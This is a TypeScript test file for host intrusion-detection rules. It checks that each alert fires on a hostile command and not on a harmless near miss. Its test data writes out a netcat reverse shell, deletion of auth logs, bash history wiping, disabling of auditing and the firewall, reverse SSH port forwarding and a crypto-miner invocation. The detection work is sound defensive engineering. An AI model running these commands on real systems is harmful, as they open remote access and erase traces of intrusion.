import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deviceAlertRules, type InsideEvent, unjudgedAlerts } from './device-alerts.ts'

const fired = (event: InsideEvent) =>
  deviceAlertRules.filter((rule) => rule.judge(event) !== undefined).map(({ id }) => id)
const run = (command: string) =>
  fired({ kind: 'process', name: command.split(' ')[0]!, exe: `/usr/bin/${command.split(' ')[0]}`, command })

test('all 39 alerts of the Defender micro agent are judged or have a reason', () => {
  const judged = deviceAlertRules.flatMap(({ defender }) => defender)
  assert.equal(
    new Set([...judged, ...Object.keys(unjudgedAlerts)]).size,
    judged.length + Object.keys(unjudgedAlerts).length,
  )
  assert.equal(judged.length + Object.keys(unjudgedAlerts).length, 39)
})

test('each rule of commands fires on its case and not on the near miss', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['agent-crypto-miner', 'xmrig -o stratum+tcp://pool:3333', 'vim stratum.txt'],
    ['agent-attack-tool', 'nmap -sS 10.0.0.0/24', 'cat nmap.txt'],
    ['agent-port-forwarding', 'ssh -fNR 8022:localhost:22 host', 'ssh host uptime'],
    ['agent-audit-disabled', 'auditctl -e 0', 'auditctl -l'],
    ['agent-logs-removed', 'rm -rf /var/log/auth.log', 'rm /tmp/log'],
    ['agent-history-cleared', 'ln -sf /dev/null /root/.bash_history', 'cat /root/.bash_history'],
    ['agent-firewall-disabled', 'iptables -F', 'iptables -L'],
    ['agent-reverse-shell', 'nc 10.0.0.1 4444 -e /bin/sh', 'nc -l 8080'],
  ]
  for (const [rule, fires, silent] of cases) {
    assert.ok(run(fires).includes(rule), fires)
    assert.ok(!run(silent).includes(rule), silent)
  }
})

test('state of the first batch raises nothing but an exposed Docker', () => {
  const change = 'present'
  assert.deepEqual(fired({ kind: 'listener', change, transport: 'tcp', address: '0.0.0.0', port: 22 }), [])
  assert.deepEqual(fired({ kind: 'listener', change, transport: 'tcp', address: '0.0.0.0', port: 2375 }), [
    'agent-docker-exposed',
  ])
  assert.deepEqual(
    fired({ kind: 'listener', change, transport: 'tcp', address: '127.0.0.1', port: 2375 }),
    [],
  )
  assert.deepEqual(fired({ kind: 'account', change, class: 'user', name: 'root', detail: '' }), [])
  assert.deepEqual(fired({ kind: 'device', change, class: 'interface', id: 'eth0', detail: 'up' }), [])
  assert.deepEqual(
    fired({ kind: 'device', change: 'changed', class: 'interface', id: 'eth0', detail: 'down' }),
    ['agent-interface-down'],
  )
  assert.deepEqual(
    fired({ kind: 'account', change: 'added', class: 'key', name: 'root ab', detail: 'ssh-ed25519' }),
    ['agent-account-added'],
  )
  assert.deepEqual(fired({ kind: 'file', change: 'removed', path: '/etc/passwd' }), ['agent-file-deleted'])
})
